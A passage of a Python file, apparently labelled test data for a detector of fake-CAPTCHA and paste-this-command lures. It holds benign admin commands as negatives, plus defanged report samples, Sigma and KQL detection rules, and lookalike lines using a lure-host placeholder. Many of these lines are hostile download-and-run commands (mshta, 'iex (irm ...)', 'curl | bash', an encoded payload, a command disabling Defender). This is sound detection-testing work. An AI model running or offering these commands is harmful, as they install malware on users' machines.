        "curl -LO https://github.com/neovim/neovim/releases/latest/download/nvim-linux-x86_64.tar.gz\nsudo rm -rf /opt/nvim\nsudo tar -C /opt -xzf nvim-linux-x86_64.tar.gz",
    ),
    (
        "https://appimage.org/",
        "chmod +x ~/Downloads/Obsidian-1.7.7.AppImage && ~/Downloads/Obsidian-1.7.7.AppImage",
    ),
    (
        "https://unix.stackexchange.com/questions/4126/what-is-the-exact-difference-between-a-terminal-a-shell-a-tty-and-a-con",
        "history | grep ssh | tail -n 20",
    ),
    (
        "https://unix.stackexchange.com/questions/145651/using-exec-and-tee-to-redirect-logs",
        "exec > >(tee -a /var/log/provision.log) 2>&1",
    ),
    (
        "https://www.gnu.org/software/bash/manual/html_node/Bash-History-Builtins.html",
        "history -c && history -w",
    ),
    (
        "https://man7.org/linux/man-pages/man1/nohup.1.html",
        "nohup ./worker --queue emails > worker.log 2>&1 &",
    ),
    (
        "https://stackoverflow.com/questions/3510673/find-and-kill-a-process-in-one-line-using-bash-and-regex",
        "pkill -f 'gunicorn app:app'",
    ),
    (
        "https://stackoverflow.com/questions/11231937/bash-ignoring-error-for-a-particular-command",
        "curl -sf http://localhost:8080/healthz || echo 'service down'",
    ),
    (
        "https://jqlang.github.io/jq/tutorial/",
        "curl -s 'https://api.github.com/repos/jqlang/jq/commits?per_page=5' | jq '.[0]'",
    ),
    (
        "https://httpie.io/docs/cli",
        "http POST https://httpbin.org/post name=jane token==abc123 Authorization:'Bearer xyz'",
    ),
    (
        "https://man7.org/linux/man-pages/man1/xargs.1.html",
        "find . -name '*.pyc' -print0 | xargs -0 rm -f",
    ),
    (
        "https://man7.org/linux/man-pages/man1/openssl-enc.1ssl.html",
        "openssl enc -d -aes-256-cbc -pbkdf2 -in backup.tar.gz.enc -out backup.tar.gz",
    ),
    (
        "https://restic.readthedocs.io/en/stable/030_preparing_a_new_repo.html",
        "export RESTIC_PASSWORD_FILE=~/.restic-pass\nrestic -r sftp:backup@203.0.113.30:/srv/restic init",
    ),
    ("https://www.wireguard.com/quickstart/", "wg genkey | tee privatekey | wg pubkey > publickey"),
    ("https://tailscale.com/kb/1080/cli", "sudo tailscale up --ssh --advertise-exit-node"),
    (
        "https://github.com/nvm-sh/nvm#git-install",
        'export NVM_DIR="$HOME/.nvm"\n[ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"',
    ),
    (
        "https://python-poetry.org/docs/#enable-tab-completion-for-bash-fish-or-zsh",
        "poetry completions bash >> ~/.bash_completion",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_completion/",
        "source <(kubectl completion bash)",
    ),
    ("https://direnv.net/docs/hook.html", 'eval "$(direnv hook bash)"'),
    (
        "https://github.com/pyenv/pyenv#set-up-your-shell-environment-for-pyenv",
        "echo 'export PYENV_ROOT=\"$HOME/.pyenv\"' >> ~/.bashrc\necho 'eval \"$(pyenv init - bash)\"' >> ~/.bashrc",
    ),
    (
        "https://docs.sigstore.dev/cosign/verifying/verify/",
        "cosign verify-blob --certificate-identity-regexp '.*' --certificate-oidc-issuer https://token.actions.githubusercontent.com --bundle app.sigstore.json app.tar.gz",
    ),
    (
        "https://aquasecurity.github.io/trivy/latest/getting-started/installation/",
        "docker run --rm -v /var/run/docker.sock:/var/run/docker.sock aquasec/trivy image python:3.12-slim",
    ),
    (
        "https://docs.gitlab.com/runner/register/",
        'sudo gitlab-runner register --url https://gitlab.example.com --token "$RUNNER_TOKEN" --executor docker --docker-image alpine:latest',
    ),
    (
        "https://docs.github.com/en/actions/hosting-your-own-runners/managing-self-hosted-runners/adding-self-hosted-runners",
        "mkdir actions-runner && cd actions-runner\ncurl -o actions-runner-linux-x64-2.321.0.tar.gz -L https://github.com/actions/runner/releases/download/v2.321.0/actions-runner-linux-x64-2.321.0.tar.gz\ntar xzf ./actions-runner-linux-x64-2.321.0.tar.gz\n./config.sh --url https://github.com/harrowfield/api --token AAAAEXAMPLETOKEN",
    ),
    (
        "https://www.hashicorp.com/blog/vault-agent",
        "export VAULT_ADDR='https://vault.harrowfield.example:8200'\nvault login -method=oidc role=dev",
    ),
    (
        "https://min.io/docs/minio/linux/reference/minio-mc.html",
        "mc alias set local http://127.0.0.1:9000 minioadmin minioadmin\nmc ls local",
    ),
]

MAC_HARD = [
    (
        "https://support.apple.com/guide/security/gatekeeper-and-runtime-protection-sec5599b66df/web",
        "sudo spctl --master-disable",
    ),
    ("https://github.com/Stremio/stremio-shell/issues/123", "xattr -cr /Applications/Stremio.app"),
    (
        "https://github.com/hashicorp/terraform/issues/23033",
        "xattr -d com.apple.quarantine ~/bin/terraform",
    ),
    ("https://ss64.com/mac/security.html", 'security find-generic-password -wa "Home-WiFi-5G"'),
    (
        "https://ss64.com/mac/osascript.html",
        'osascript -e \'display notification "Build finished" with title "Xcode"\'',
    ),
    (
        "https://ss64.com/mac/osascript.html",
        "osascript -e 'tell application \"System Events\" to get name of every process whose background only is false'",
    ),
    (
        "https://github.com/apple/container#install",
        "sudo installer -pkg ~/Downloads/container-installer-signed.pkg -target /",
    ),
    (
        "https://docs.brew.sh/Installation#untar-anywhere-unsupported",
        "mkdir homebrew && curl -L https://github.com/Homebrew/brew/tarball/master | tar xz --strip-components 1 -C homebrew",
    ),
    ("https://ss64.com/mac/pbpaste.html", "pbpaste | jq . | pbcopy"),
    ("https://ss64.com/mac/dscl.html", "dscl . -list /Users | grep -v '^_'"),
    (
        "https://github.com/pqrs-org/Karabiner-Elements/issues/3100",
        "sudo launchctl kickstart -k system/org.pqrs.karabiner.karabiner_grabber",
    ),
    (
        "https://support.apple.com/en-us/102655",
        "sudo /usr/bin/xattr -r -d com.apple.quarantine /Library/Audio/Plug-Ins/Components/MyPlugin.component",
    ),
    (
        "https://developer.apple.com/documentation/xcode/installing-additional-simulator-runtimes",
        "xcodebuild -downloadPlatform iOS",
    ),
    (
        "https://ss64.com/mac/sqlite3.html",
        "sqlite3 ~/Library/Messages/chat.db 'select count(*) from message;'",
    ),
    (
        "https://github.com/macports/macports-base/releases",
        "sudo port selfupdate && sudo port upgrade outdated",
    ),
    (
        "https://ss64.com/mac/curl.html",
        "curl -L -o ~/Downloads/Firefox.dmg 'https://download.mozilla.org/?product=firefox-latest&os=osx&lang=en-US'",
    ),
    (
        "https://osxdaily.com/2016/09/27/allow-apps-from-anywhere-macos-gatekeeper/",
        "sudo spctl --global-disable",
    ),
    ("https://github.com/raycast/extensions/issues/1234", "defaults read com.raycast.macos | head"),
    ("https://ss64.com/mac/nvram.html", "nvram -p | grep boot-args"),
    ("https://ss64.com/mac/chflags.html", "chflags nohidden ~/Library"),
]

CONSOLE_HARD = [
    (
        "https://app.acme-dashboard.example/inbox",
        "setInterval(() => document.querySelector('.load-more')?.click(), 1500)",
    ),
    (
        "https://www.linkedin.com/mynetwork/invitation-manager/",
        "document.querySelectorAll('button[aria-label^=\"Ignore\"]').forEach((b, i) => setTimeout(() => b.click(), i * 500))",
    ),
    (
        "https://twitter.com/settings/muted/all",
        "for (const b of document.querySelectorAll('[data-testid$=\"unmute\"]')) b.click()",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/eval",
        "eval('2 + 2')",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Window/sessionStorage",
        "sessionStorage.clear()",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Storage/clear",
        "localStorage.clear(); sessionStorage.clear(); location.reload()",
    ),
    (
        "https://app.acme-dashboard.example/reports",
        "const res = await fetch('/graphql', {method: 'POST', headers: {'content-type': 'application/json'}, body: JSON.stringify({query: '{ viewer { login } }'})}); await res.json()",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Fetch_API/Using_Fetch",
        "fetch('https://api.github.com/repos/whatwg/fetch').then(r => r.json()).then(d => d.stargazers_count)",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Document/createElement",
        "const p = document.createElement('p'); p.textContent = 'hello'; document.body.append(p)",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Window/btoa",
        "btoa(unescape(encodeURIComponent('héllo wörld')))",
    ),
    (
        "https://stackoverflow.com/questions/4068373/center-a-popup-window-on-screen",
        "window.open(location.href, '_blank', 'width=800,height=600')",
    ),
    ("https://www.figma.com/plugin-docs/", "figma.currentPage.selection.map(n => n.name)"),
    (
        "https://developer.chrome.com/docs/extensions/reference/api/storage",
        "chrome.storage.local.get(null, items => console.log(items))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Document/cookie#example_4_reset_the_previous_cookie",
        "document.cookie = 'consent=; expires=Thu, 01 Jan 1970 00:00:00 GMT; path=/'",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/WebSocket",
        "const ws = new WebSocket('wss://echo.websocket.org'); ws.onmessage = e => console.log(e.data); ws.onopen = () => ws.send('ping')",
    ),
    (
        "https://app.acme-dashboard.example/admin/users",
        "copy(JSON.stringify(await (await fetch('/api/admin/users?format=json')).json()))",
    ),
    (
        "https://github.com/harrowfield/web/wiki/Debugging",
        "localStorage.setItem('featureFlags', JSON.stringify({newEditor: true})); location.reload()",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Notification/requestPermission_static",
        "Notification.requestPermission().then(console.log)",
    ),
    (
        "https://www.reddit.com/r/webdev/comments/console_trick",
        "document.querySelectorAll('video').forEach(v => v.playbackRate = 2)",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Blob",
        "const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([JSON.stringify(data, null, 2)], {type: 'application/json'})); a.download = 'data.json'; a.click()",
    ),
]

WRITE_HARD = [
    (
        "https://www.example.com/research/2026/fake-captcha-wave",
        "The clipboard payload we recovered:\n\n```\nmshta hxxps://check-human[.]test/v.hta # ✅ I'm not a robot - reCAPTCHA Verification ID: 7730\n```\n\nNote the trailing comment, which is all the victim sees in the Run box.",
    ),
    (
        "https://www.example.com/blog/macos-stealers",
        'Defanged sample from the campaign:\n\n    echo "Y3VybCAtcyBoeHhwczovL2V4YW1wbGVbLl10ZXN0L3N8YmFzaA==" | base64 -d | bash\n\nDecoded, it fetches a shell script from the attacker\'s host (defanged in the decoded text too).',
    ),
    (
        "https://www.example.com/research/2026/filefix",
        'Step 3 of the lure reads: "Open File Explorer, click the address bar, press CTRL+V and Enter to open the shared PDF." The copied text begins with powershell and ends in a long run of spaces followed by C:\\company\\internal-secure\\filedrive\\HRPolicy.docx.',
    ),
    (
        "https://www.example.com/intel/weekly-2026-49",
        "| Date | Vector | Command family | Payload |\n|---|---|---|---|\n| 2026-12-01 | fake CAPTCHA | mshta | Lumma |\n| 2026-12-02 | fake update | powershell iwr/iex | NetSupport |\n| 2026-12-04 | FileFix | powershell -w h | StealC |",
    ),
    (
        "https://www.example.com/soc/playbook-clickfix",
        "Triage checklist:\n1. Pull HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU from the host.\n2. Look for entries containing powershell, mshta, curl or conhost.\n3. Isolate the host if a download was made.\n4. Reset the user's passwords from a clean device.",
    ),
    (
        "https://www.example.com/research/2026/ppt-lure",
        "Sigma rule excerpt:\n\ndetection:\n  selection:\n    Image|endswith: '\\mshta.exe'\n    ParentImage|endswith: '\\explorer.exe'\n    CommandLine|contains: 'http'\n  condition: selection",
    ),
    (
        "https://www.example.com/newsletter/issue-91",
        "A reader sent us this one: a \"Cloudflare\" page asked them to open Terminal on their Mac and paste a line starting with curl. They didn't, and forwarded it to us. Good instinct - if a site asks you to paste commands to prove you're human, it's an attack.",
    ),
    (
        "https://www.example.com/research/2026/crashfix",
        "The fake browser crash dialog tells users to press Win+X, open Terminal (Admin) and paste. The script it copies disables Defender with Set-MpPreference before pulling the stage two.",
    ),
    (
        "https://www.example.com/blog/edr-telemetry",
        'Process tree:\nexplorer.exe (4120)\n└─ powershell.exe -w hidden -nop -c "iex(iwr hxxps://198.51.100[.]14/k -UseBasicParsing)" (7712)\n   └─ rundll32.exe C:\\Users\\<user>\\AppData\\Local\\Temp\\k.dll,Start (8020)',
    ),
    (
        "https://www.example.com/research/2026/kql-hunt",
        'DeviceRegistryEvents\n| where RegistryKey has @"\\CurrentVersion\\Explorer\\RunMRU"\n| where RegistryValueData has_any ("mshta", "powershell", "iwr", "curl", "bitsadmin")\n| project Timestamp, DeviceName, RegistryValueData',
    ),
    (
        "https://www.example.com/awareness/december",
        'Scam alert: fake invoices claiming to be from a well-known antivirus vendor ask you to call a "billing department" to cancel a renewal. Don\'t call the number in the mail; log in to your account from the official site instead.',
    ),
    (
        "https://www.example.com/research/2026/tech-support-scam",
        'The pop-up shows: "Windows Defender Alert: Zeus Virus Detected. Call Microsoft Support +1-555-0147 immediately." Microsoft never puts phone numbers in error messages.',
    ),
]

MAIL_HARD = [
    (
        "outlook",
        "Did you make this purchase?\nHarrowfield Bank: card ending 4821 was used for $499.00 at ELECTRONICS STORE on Dec 6. If this wasn't you, "
        "call the number on the back of your card or use the app. We will never ask for your PIN or a one-time code.",
    ),
    (
        "outlook",
        "Your subscription renews soon\nYour Quillmere Cloud plan renews on 1 January 2027 for $99.99. To change or cancel, sign in at "
        "account.quillmere.example > Billing. Need help? Call 1-555-0163, 24/7.",
    ),
    (
        "https://mail.google.com/mail/u/0/#inbox",
        "Hi Sam, your IT account has been created.\nUsername: sam.lee\nA temporary password will be given to you by your manager in person. "
        "At first sign-in you will be asked to set up Microsoft Authenticator. Questions: servicedesk@harrowfield.example / x4477",
    ),
    (
        "outlook",
        'IT notice: from Monday, PowerShell scripts on managed laptops must be signed. If a tool you use stops working with "running '
        'scripts is disabled on this system", open a ticket - please do not change the execution policy yourself.',
    ),
    (
        "teams",
        "could you run this in PowerShell and paste me the result? Get-ComputerInfo | select CsName, OsVersion, OsBuildNumber",
    ),
    (
        "slack",
        "fyi to fix the cert error on the staging box run `sudo update-ca-certificates` after copying our root CA into /usr/local/share/ca-certificates/",
    ),
    (
        "outlook",
        "Security reminder: our help desk will NEVER ask you to open the Run box, paste a command, or install remote-access software. If "
        "someone calls claiming to be IT, hang up and call us back on 555-0100.",
    ),
    (
        "thunderbird",
        "Your verification code is 482913. It expires in 10 minutes. If you didn't request this code, you can ignore this email.",
    ),
    (
        "outlook",
        "Delivery attempt failed - we could not deliver parcel 1Z999AA10123456784 because nobody was home. Your parcel is at the "
        "depot; reschedule at ups.com or call 1-555-0121.",
    ),
    (
        "https://outlook.office.com/mail/",
        "Meeting invite: Quarterly security review\nJoin Microsoft Teams meeting\nMeeting ID: 555 123 456 789\nPasscode: a7Kx2q\n"
        "Dial in by phone: +1 555-0199,,123456789# United States, Seattle",
    ),
]

RUN_HARD = [
    'cmd /c "ipconfig /all > %userprofile%\\Desktop\\ip.txt"',
    "\\\\192.0.2.10\\c$",
    "msiexec /i \\\\fs01\\deploy\\TeamViewer_Host.msi",
    "control /name Microsoft.CredentialManager",
    "rundll32.exe keymgr.dll,KRShowKeyMgr",
    "rundll32 shell32.dll,Control_RunDLL desk.cpl",
    "%windir%\\system32\\cmd.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "ms-settings:recovery",
    "shell:::{ED7BA470-8E54-465E-825C-99712043E01C}",
    "wsl",
    "bash",
    "ssh jane@203.0.113.5",
    "mstsc /v:ts01.harrowfield.example:3390",
    "powershell -ExecutionPolicy Bypass -File \\\\fs01\\it\\scripts\\map-drives.ps1",
    "\\\\fs01\\it\\tools\\setup.exe",
    "iexplore",
    "regedit /m",
    "msra /offerra",
    "cmd /k cd /d D:\\Projects",
    "explorer.exe /select,C:\\Windows\\notepad.exe",
    "mmc devmgmt.msc",
    "%programfiles%\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE /cleanviews",
    "control keyboard",
    "control admintools",
    "powercfg.cpl",
    "wscui.cpl",
    "intl.cpl",
    "joy.cpl",
    "hdwwiz",
    "winword /a",
    "netsh wlan show interfaces",
]

BAR_HARD = [
    "\\\\192.0.2.10\\c$\\Users",
    "%appdata%\\Mozilla\\Firefox\\Profiles",
    "C:\\Users\\jane\\AppData\\Local\\Google\\Chrome\\User Data\\Default",
    "\\\\fs01.harrowfield.example\\home$\\jane",
    "cmd",
    "powershell",
    "%temp%",
    "shell:startup",
    "C:\\$Recycle.Bin",
    "\\\\tsclient\\C",
    "\\\\nas01\\media\\Movies 2024",
    "D:\\",
    "ms-settings:display",
]

SNIP_HARD = [
    (
        "https://github.com/harrowfield/ops/blob/main/.github/workflows/windows.yml",
        "  build-windows:\n    runs-on: windows-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Install Scoop\n        shell: pwsh\n        run: |\n          iwr -useb get.scoop.sh -outfile 'install.ps1'\n          .\\install.ps1 -RunAsAdmin\n          scoop install nsis",
    ),
    (
        "https://github.com/quillmere/vm-lab/blob/main/Vagrantfile",
        'Vagrant.configure("2") do |config|\n  config.vm.box = "bento/ubuntu-24.04"\n  config.vm.provision "shell", inline: <<-SHELL\n    curl -fsSL https://get.docker.com | sh\n    usermod -aG docker vagrant\n  SHELL\nend',
    ),
    (
        "https://github.com/harrowfield/dotfiles/blob/main/.bashrc",
        "alias ll='ls -alF'\nalias gs='git status'\nalias myip='curl -s https://ifconfig.me'\nexport EDITOR=nvim\n[ -f ~/.fzf.bash ] && source ~/.fzf.bash",
    ),
    (
        "https://github.com/quillmere/web/blob/main/.npmrc",
        "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n@quillmere:registry=https://npm.pkg.github.com\nengine-strict=true",
    ),
    (
        "https://github.com/harrowfield/win-setup/blob/main/setup.bat",
        '@echo off\nREM installs the team\'s tools\nwinget install -e --id Git.Git\nwinget install -e --id Microsoft.VisualStudioCode\npowershell -NoProfile -ExecutionPolicy Bypass -File "%~dp0configure.ps1"\npause',
    ),
    (
        "https://learn.microsoft.com/en-us/sysinternals/downloads/sysmon",
        "Event ID 1: Process creation\nImage: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\nCommandLine: powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\chocolatey\\helpers\\chocolateyScriptRunner.ps1\nParentImage: C:\\ProgramData\\chocolatey\\choco.exe\nUser: HARROWFIELD\\svc-deploy",
    ),
    (
        "https://github.com/quillmere/mac-agent/blob/main/com.quillmere.agent.plist",
        '<?xml version="1.0" encoding="UTF-8"?>\n<plist version="1.0">\n<dict>\n  <key>Label</key><string>com.quillmere.agent</string>\n  <key>ProgramArguments</key>\n  <array><string>/usr/local/bin/quillmere-agent</string><string>--daemon</string></array>\n  <key>RunAtLoad</key><true/>\n</dict>\n</plist>',
    ),
    (
        "https://github.com/harrowfield/ops/blob/main/registry/proxy.reg",
        'Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings]\n"ProxyEnable"=dword:00000001\n"ProxyServer"="proxy.harrowfield.example:8080"\n"ProxyOverride"="<local>"',
    ),
    (
        "https://github.com/quillmere/site/blob/main/docker-compose.yml",
        'services:\n  app:\n    image: node:22-alpine\n    working_dir: /app\n    volumes: [".:/app"]\n    command: sh -c "npm ci && npm run dev -- --host 0.0.0.0"\n    ports: ["5173:5173"]',
    ),
    (
        "https://github.com/harrowfield/api/blob/main/Dockerfile",
        "FROM mcr.microsoft.com/windows/servercore:ltsc2022\nSHELL [\"powershell\", \"-Command\", \"$ErrorActionPreference = 'Stop';\"]\nRUN Invoke-WebRequest -Uri https://aka.ms/vs/17/release/vc_redist.x64.exe -OutFile vc_redist.x64.exe; Start-Process vc_redist.x64.exe -ArgumentList '/install','/quiet','/norestart' -Wait; Remove-Item vc_redist.x64.exe",
    ),
    (
        "https://github.com/harrowfield/api/issues/502",
        "PS C:\\> .\\deploy.ps1\n.\\deploy.ps1 : File C:\\deploy.ps1 cannot be loaded because running scripts is disabled on this system. For more information, see about_Execution_Policies at https:/go.microsoft.com/fwlink/?LinkID=135170.\n    + CategoryInfo          : SecurityError: (:) [], PSSecurityException",
    ),
    (
        "https://github.com/quillmere/web/issues/88",
        "Uncaught (in promise) TypeError: Failed to fetch\n    at loadUser (app.js:42:17)\n    at async init (app.js:12:3)\nAccess to fetch at 'https://api.quillmere.example/me' from origin 'http://localhost:5173' has been blocked by CORS policy",
    ),
    (
        "https://github.com/harrowfield/ops/blob/main/k8s/cronjob.yaml",
        'apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: cleanup\nspec:\n  schedule: "0 4 * * *"\n  jobTemplate:\n    spec:\n      template:\n        spec:\n          containers:\n          - name: cleanup\n            image: curlimages/curl:8.11.0\n            args: ["-fsS", "-X", "POST", "http://api.default.svc/internal/cleanup"]\n          restartPolicy: OnFailure',
    ),
    (
        "https://github.com/quillmere/infra/blob/main/userdata.sh",
        "#!/bin/bash\nset -euxo pipefail\nyum update -y\nyum install -y amazon-cloudwatch-agent\ncurl -fsSL https://rpm.nodesource.com/setup_22.x | bash -\nyum install -y nodejs",
    ),
    (
        "https://github.com/harrowfield/ops/blob/main/logs/nginx-access.log",
        '203.0.113.50 - - [07/Dec/2026:03:14:07 +0000] "GET /wp-login.php HTTP/1.1" 404 153 "-" "Mozilla/5.0"\n198.51.100.23 - - [07/Dec/2026:03:14:09 +0000] "GET /.env HTTP/1.1" 404 153 "-" "curl/8.5.0"',
    ),
    (
        "https://github.com/quillmere/win-tools/blob/main/profile.ps1",
        "Import-Module posh-git\noh-my-posh init pwsh | Invoke-Expression\nSet-PSReadLineOption -PredictionSource History\nfunction ll { Get-ChildItem -Force @args }",
    ),
]


def second_round(book: Book) -> None:
    for i, (page, text) in enumerate(WIN_HARD):
        book.add("vendor-admin-windows", text, "not_flagged", "windows", TERMINAL, page)
        if i % 4 == 1:
            book.add("vendor-admin-windows", text, "not_flagged", "windows", UNKNOWN, None)
    for i, (page, text) in enumerate(NIX_HARD):
        book.add("vendor-admin-linux", text, "not_flagged", "linux", TERMINAL, page)
        if i % 4 == 1:
            book.add("vendor-admin-linux", text, "not_flagged", "linux", UNKNOWN, None)
    for i, (page, text) in enumerate(MAC_HARD):
        book.add("vendor-admin-macos", text, "not_flagged", "macos", TERMINAL, page)
        if i % 4 == 1:
            book.add("vendor-admin-macos", text, "not_flagged", "macos", UNKNOWN, None)
    for page, text in CONSOLE_HARD:
        book.add("console-snippet", text, "not_flagged", "any", CONSOLE, page)
    for i, (page, text) in enumerate(WRITE_HARD):
        book.add("writeup-quoting-lure", text, "not_flagged", "any", (UNKNOWN, OTHER)[i % 2], page)
    for i, (app, text) in enumerate(MAIL_HARD):
        book.add("support-mail-phone", text, "not_flagged", "any", (OTHER, UNKNOWN)[i % 2], app)
    for text in RUN_HARD:
        book.add("run-box-everyday", text, "not_flagged", "windows", RUN, None)
    for text in BAR_HARD:
        book.add("explorer-bar-everyday", text, "not_flagged", "windows", BAR, None)
    for i, (page, text) in enumerate(SNIP_HARD):
        book.add(
            "config-log-snippet",
            text,
            "not_flagged",
            "any",
            (UNKNOWN, OTHER, TERMINAL)[i % 3],
            page,
        )


# -- cleared: a Markdown table's rows (every shell refuses a line that begins with a pipe) ---------

TABLES = [
    "| Date | Vector | Command family | Payload |\n|---|---|---|---|\n| 2026-12-01 | fake CAPTCHA | mshta | Lumma |\n"
    "| 2026-12-02 | fake update | powershell iwr/iex | NetSupport |\n| 2026-12-04 | FileFix | powershell -w h | StealC |",
    "| LOLBin | Seen with | ATT&CK |\n| --- | --- | --- |\n| mshta.exe | remote .hta | T1218.005 |\n| rundll32.exe | DLL from %TEMP% | T1218.011 |\n"
    "| certutil.exe | -urlcache -f | T1105 |\n| bitsadmin.exe | /transfer | T1197 |",
    "| Command | What it does |\n|:--|:--|\n| `iwr <url> -OutFile x.msi` | downloads a file |\n| `iex (irm <url>)` | downloads and runs a script |\n"
    "| `Set-MpPreference -DisableRealtimeMonitoring $true` | turns Defender's real-time protection off |",
    "|Family|Delivery|Stage 1|\n|-|-|-|\n|Lumma|ClickFix|mshta|\n|AMOS|fake Terminal fix|curl \\| bash|\n|Rhadamanthys|fake update|powershell -enc|",
    "| Tool | Install |\n| --- | --- |\n| uv | curl -LsSf https://astral.sh/uv/install.sh \\| sh |\n| bun | curl -fsSL https://bun.sh/install \\| bash |\n"
    "| deno | curl -fsSL https://deno.land/install.sh \\| sh |",
    "| Rule | Process | CommandLine contains |\n| --- | --- | --- |\n| RunMRU PowerShell | explorer.exe | powershell, iwr, iex |\n"
    "| Remote HTA | mshta.exe | http |\n| Encoded command | powershell.exe | -enc, -EncodedCommand |",
    "| Stage | Host (defanged) | Notes |\n| --- | --- | --- |\n| lure | check-human[.]test | fake CAPTCHA |\n| payload | 198.51.100[.]77 | mshta then PowerShell |\n| C2 | cdn-sync[.]invalid | HTTPS beacon |",
    "| Setting | Value |\n|---|---|\n| ExecutionPolicy | Bypass (Process scope) |\n| Script | \\\\fs01\\it\\scripts\\map-drives.ps1 |\n| Runs as | the signed-in user |",
    "| Symptom | Fix |\n| --- | --- |\n| scripts are disabled | Set-ExecutionPolicy -Scope Process Bypass |\n| stale DNS | ipconfig /flushdns |\n| Teams cache | Remove-Item $env:APPDATA\\Microsoft\\Teams -Recurse |",
]

TABLE_PAGES = [
    "https://www.example.com/intel/weekly-2026-49",
    "https://github.com/harrowfield/detections/blob/main/README.md",
    "https://www.example.com/wiki/lolbins-cheatsheet",
    "https://intranet.harrowfield.example/it/kb/runbook",
]

# a table's first line, then a command the shell runs; a pipe-led line after a command, which
# PowerShell 7 reads as the command's next stage; a row in the Run box from a check page
TABLE_LOOKALIKES = [
    (
        '| step | action |\n|---|---|\n| 1 | verify |\npowershell -w h -c "iex (irm {h}/v.ps1)"',
        "flagged",
        TERMINAL,
    ),
    ("| step | action |\nmshta {h}/v.hta\n| 2 | done |", "flagged", TERMINAL),
    ("iwr {h}/a.ps1 -UseBasicParsing\n| iex", "flagged", TERMINAL),
    ("Invoke-RestMethod {h}/stage.ps1\n| Invoke-Expression", "flagged", TERMINAL),
    (
        "| Verification |\n| --- |\n| I am not a robot |\ncurl -s {h}/m.sh | bash",
        "flagged",
        TERMINAL,
    ),
    (
        'powershell -w h -c "iex (irm {h}/v.ps1)" # | I am not a robot | reCAPTCHA Verification ID: 2211 |',
        "malicious",
        RUN,
    ),
    (
        'cmd /c "curl -s {h}/k.bat -o %TEMP%\\k.bat && %TEMP%\\k.bat" | rem | verification |',
        "malicious",
        RUN,
    ),
]


def tables(book: Book) -> None:
    for i, text in enumerate(TABLES):
        page = TABLE_PAGES[i % len(TABLE_PAGES)]
        book.add("markdown-table-rows", text, "not_flagged", "any", OTHER, page)
        book.add("markdown-table-rows", text, "not_flagged", "any", TERMINAL, page)
        book.add("markdown-table-rows", text, "not_flagged", "any", UNKNOWN, None)
    for text, expect, target in TABLE_LOOKALIKES:
        text = text.replace("{h}", LURE_HOST)
        book.add("markdown-table-rows", text, expect, "any", target, CHECK_PAGE)
        book.add("markdown-table-rows", text, "flagged", "any", target, None)


# -- cleared: a defanged sample set apart in a report (a fenced or indented block, double quotes) --

SAMPLES = [
    'Defanged sample from the campaign:\n\n    echo "Y3VybCAtcyBoeHhwczovL2V4YW1wbGVbLl10ZXN0L3N8YmFzaA==" | base64 -d | bash\n\n'
    "Decoded, it fetches a shell script from the attacker's host (defanged in the decoded text too).",
    'The loader we observed:\n\n```powershell\npowershell -nop -w hidden -c "iex (iwr hxxps://update-check[.]test/p.ps1 -UseBasicParsing)"\n```\n\n'
    "It runs from the Run box, so the parent process is explorer.exe.",
    "Stage one is a one-liner:\n\n```\nmshta hxxp://198.51.100[.]61/verify.hta\n```\n\nThe HTA then writes a PowerShell script to %TEMP% and starts it hidden.",
    "On macOS the page copies the following command:\n\n    curl -fsSL hxxps://macfix-help[.]test/install.sh | bash\n\n"
    "The script asks for the user's password in a dialog and uploads the keychain.",
    "We saw the actor pivot to a new delivery host. The command line was:\n\n```\ncmd /c start /min powershell -w h iwr hxxps://cdn-fix[.]invalid/a.ps1 -OutFile $env:TEMP\\a.ps1; & $env:TEMP\\a.ps1\n```\n\n"
    "Blocking outbound requests from powershell.exe would have stopped it.",
    'In the second wave the lure switched to conhost:\n\n\tconhost.exe --headless powershell -c "irm hxxps://198.51.100[.]90/x | iex"\n\n'
    "The headless console keeps any window from appearing.",
    'A user reported a page that showed a fake CAPTCHA. The clipboard held "powershell -w h -c iwr hxxps://captcha-verify[.]test/s | iex" when they checked it. They closed the page without running it.',
    "Recovered from the victim's RunMRU key:\n\n```\nmshta hxxps://cloud-check[.]test/captcha.hta\\1\n```\n\nThe trailing \\1 is how Windows stores Run box history.",
    "Example of the decoded command (addresses defanged):\n\n    $u='hxxps://198.51.100[.]5/s.ps1'; iex (New-Object Net.WebClient).DownloadString($u)\n\nThe variable name changes between samples.",
]

SAMPLE_PAGES = [
    "https://www.example.com/research/2026/fake-captcha-wave",
    "https://www.example.com/blog/macos-stealers",
    "https://unit42.paloaltonetworks.com/preventing-clickfix-attack-vector/",
    "https://www.microsoft.com/en-us/security/blog/2025/08/21/think-before-you-clickfix/",
]

# the same samples with a live address, one defanged and one live, a share, or pasted where a
# shell or the Run box reads them: the clearing needs every address defanged and a place that
# runs nothing
SAMPLE_LOOKALIKES = [
    (
        'The loader we observed:\n\n```\npowershell -nop -w hidden -c "iex (iwr {h}/p.ps1 -UseBasicParsing)"\n```\n\nIt runs from the Run box.',
        UNKNOWN,
    ),
    (
        "Stage one is a one-liner:\n\n```\nmshta {h}/verify.hta\n```\n\nThe HTA then writes a script to %TEMP%.",
        OTHER,
    ),
    (
